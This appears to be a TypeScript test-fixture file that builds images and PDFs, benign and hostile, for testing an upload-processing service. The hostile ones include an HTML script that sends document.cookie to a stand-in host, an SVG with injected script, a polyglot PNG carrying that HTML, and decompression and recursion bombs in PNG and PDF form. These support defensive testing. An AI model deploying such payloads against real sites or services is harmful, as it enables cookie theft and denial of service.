import { Buffer } from 'node:buffer'
import { randomBytes } from 'node:crypto'
import { deflateSync } from 'node:zlib'
import { PDFDocument, StandardFonts } from 'pdf-lib'
import sharp from 'sharp'
import type { PictureMaker } from '../src/pictures/picture-maker.ts'
import type { Picture } from '../src/pictures/protocol.ts'

const bytesOf = (text: string) => Buffer.from(text, 'latin1')

/** A gradient, so that no part of the picture is empty. */
function drawing(width: number, height: number): ReturnType<typeof sharp> {
  const pixels = Buffer.alloc(width * height * 3)
  for (let index = 0; index < pixels.length; index += 1) pixels[index] = (index * 7) % 251
  return sharp(pixels, { raw: { width, height, channels: 3 } })
}

export const secretComment = 'taken at home, 12.9716 N 77.5946 E'

/** A photo that lies on its side, with a camera's metadata in it. */
export function pngWithExif(): Promise<Buffer> {
  return drawing(120, 80)
    .withExif({ IFD0: { ImageDescription: secretComment }, IFD3: { GPSLatitudeRef: 'N' } })
    .png()
    .toBuffer()
}

export function jpegOnItsSide(): Promise<Buffer> {
  return drawing(120, 80)
    .withMetadata({ orientation: 6 })
    .withExifMerge({ IFD0: { ImageDescription: secretComment } })
    .jpeg()
    .toBuffer()
}

export function imageAs(format: 'png' | 'jpeg' | 'webp' | 'gif' | 'avif', width = 64, height = 48): Promise<Buffer> {
  return drawing(width, height).toFormat(format).toBuffer()
}

/** Black and white squares, as a JPEG. */
export function qrCode(side: number): Promise<Buffer> {
  const square = 40
  const dark = (index: number) =>
    ((Math.floor(index / side / square) * 7 + Math.floor((index % side) / square) * 5) % 3) * 127
  const pixels = Buffer.from(Array.from({ length: side * side }, (_, index) => dark(index)))
  return sharp(pixels, { raw: { width: side, height: side, channels: 1 } })
    .jpeg()
    .toBuffer()
}

/** A picture in which no two pixels are alike, as a PNG. */
export function noise(width: number, height: number): Promise<Buffer> {
  return sharp(randomBytes(width * height * 3), { raw: { width, height, channels: 3 } })
    .png({ compressionLevel: 1 })
    .toBuffer()
}

/** Two frames, the first red and the second blue. */
export async function animatedGif(): Promise<Buffer> {
  const frame = (background: string) =>
    sharp({ create: { width: 20, height: 20, channels: 3, background } })
      .png()
      .toBuffer()
  return sharp([await frame('#ff0000'), await frame('#0000ff')], { join: { animated: true } })
    .gif({ delay: [100, 100] })
    .toBuffer()
}

export async function truncatedJpeg(): Promise<Buffer> {
  const whole = await imageAs('jpeg', 800, 600)
  return whole.subarray(0, Math.floor(whole.length / 2))
}

export const html = bytesOf('<!doctype html><script>fetch("https://example.test/" + document.cookie)</script>')

export const svg = bytesOf(
  '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><script>alert(1)</script></svg>',
)

/** A real PNG with a page of HTML behind it: a browser that guesses could run it. */
export async function pngWithHtmlBehind(): Promise<Buffer> {
  return Buffer.concat([await imageAs('png'), html])
}

function pngChunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([bytesOf(type), data])
  const head = Buffer.alloc(4)
  head.writeUInt32BE(data.length)
  const sum = Buffer.alloc(4)
  sum.writeUInt32BE(crc32(body))
  return Buffer.concat([head, body, sum])
}

function crc32(bytes: Buffer): number {
  let crc = 0xffffffff
  for (const byte of bytes) {
    crc ^= byte
    for (let bit = 0; bit < 8; bit += 1) crc = (crc >>> 1) ^ (crc & 1 ? 0xedb88320 : 0)
  }
  return (crc ^ 0xffffffff) >>> 0
}

/** A PNG of a few bytes that says it has `width` x `height` pixels. */
export function pngThatClaims(width: number, height: number): Buffer {
  const header = Buffer.alloc(13)
  header.writeUInt32BE(width, 0)
  header.writeUInt32BE(height, 4)
  header.set([8, 0, 0, 0, 0], 8)
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a])
  const rows = deflateSync(Buffer.alloc(Math.min((width + 1) * height, 4_000_000)))
  return Buffer.concat([signature, pngChunk('IHDR', header), pngChunk('IDAT', rows), pngChunk('IEND', Buffer.alloc(0))])
}

/** 36 megapixels in a few kilobytes, written so that no line is complete before the last pixel was read. */
export function pngThatFillsMemory(): Promise<Buffer> {
  return sharp({ create: { width: 6_000, height: 6_000, channels: 3, background: '#123456' } })
    .png({ progressive: true })
    .toBuffer()
}

export async function pdfOf(pageCount: number): Promise<Buffer> {
  const document = await PDFDocument.create()
  const font = await document.embedFont(StandardFonts.Helvetica)
  for (let page = 1; page <= pageCount; page += 1)
    document.addPage([595, 842]).drawText(`Receipt, page ${page}`, { x: 50, y: 700, size: 30, font })
  return Buffer.from(await document.save())
}

/** Writes a PDF by hand. `objects` are numbered from 1; the first is the catalogue. */
function pdfFromObjects(objects: readonly (string | Buffer)[], trailer = ''): Buffer {
  const parts: Buffer[] = [bytesOf('%PDF-1.7\n')]
  const offsets: number[] = []
  const length = () => parts.reduce((sum, part) => sum + part.length, 0)
  objects.forEach((object, index) => {
    offsets.push(length())
    parts.push(
      bytesOf(`${index + 1} 0 obj\n`),
      typeof object === 'string' ? bytesOf(object) : object,
      bytesOf('\nendobj\n'),
    )
  })
  const table = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('')
  const size = objects.length + 1
  const start = length()
  parts.push(
    bytesOf(`xref\n0 ${size}\n0000000000 65535 f \n${table}`),
    bytesOf(`trailer\n<</Size ${size}/Root 1 0 R${trailer}>>\nstartxref\n${start}\n%%EOF\n`),
  )
  return Buffer.concat(parts)
}

const stream = (dictionary: string, data: Buffer) =>
  Buffer.concat([bytesOf(`<<${dictionary}/Length ${data.length}>>\nstream\n`), data, bytesOf('\nendstream')])

const onePage = (resources: string) => [
  '<</Type/Catalog/Pages 2 0 R>>',
  '<</Type/Pages/Kids[3 0 R]/Count 1>>',
  `<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 300]/Contents 4 0 R/Resources<<${resources}>>>>`,
]

/** A PDF that wants a password which nobody gives. */
export function encryptedPdf(): Buffer {
  const secret = `<</Filter/Standard/V 1/R 2/O<${'a1'.repeat(32)}>/U<${'b2'.repeat(32)}>/P -4>>`
  const objects = [...onePage(''), stream('', bytesOf('0 0 10 10 re f')), secret]
  return pdfFromObjects(
    objects,
    '/Encrypt 5 0 R/ID[<00112233445566778899aabbccddeeff><00112233445566778899aabbccddeeff>]',
  )
}

export function pdfWithoutPages(): Buffer {
  return pdfFromObjects(['<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Kids[]/Count 0>>'])
}

/** A small PDF whose one page draws a form that draws ten forms that draw ten forms, and so on: it would take for ever. */
export function pdfThatNeverEnds(depth = 12): Buffer {
  const firstForm = 5
  const forms = Array.from({ length: depth }, (_, level) => {
    const isLast = level === depth - 1
    const resources = isLast ? '' : `/Resources<</XObject<</F ${firstForm + level + 1} 0 R>>>>`
    const content = isLast ? '0 0 300 300 re f' : '/F Do '.repeat(10)
    return stream(`/Type/XObject/Subtype/Form/BBox[0 0 300 300]${resources}`, bytesOf(content))
  })
  return pdfFromObjects([...onePage(`/XObject<</F ${firstForm} 0 R>>`), stream('', bytesOf('/F Do')), ...forms])
}

/** A small PDF with an image that unpacks to `side` x `side` x 3 bytes. */
export function pdfBomb(side: number): Buffer {
  const row = deflateSync(Buffer.alloc(side * side * 3), { level: 1 })
  const image = stream(
    `/Type/XObject/Subtype/Image/Width ${side}/Height ${side}/ColorSpace/DeviceRGB/BitsPerComponent 8/Filter/FlateDecode`,
    row,
  )
  return pdfFromObjects([...onePage('/XObject<</I 5 0 R>>'), stream('', bytesOf('300 0 0 300 0 0 cm /I Do')), image])
}

/** The pictures of a proof. */
export const opened = (maker: PictureMaker, file: Buffer, owner = 'p'): Promise<Picture[]> =>
  maker.ofProof(file, owner, (open) => open())
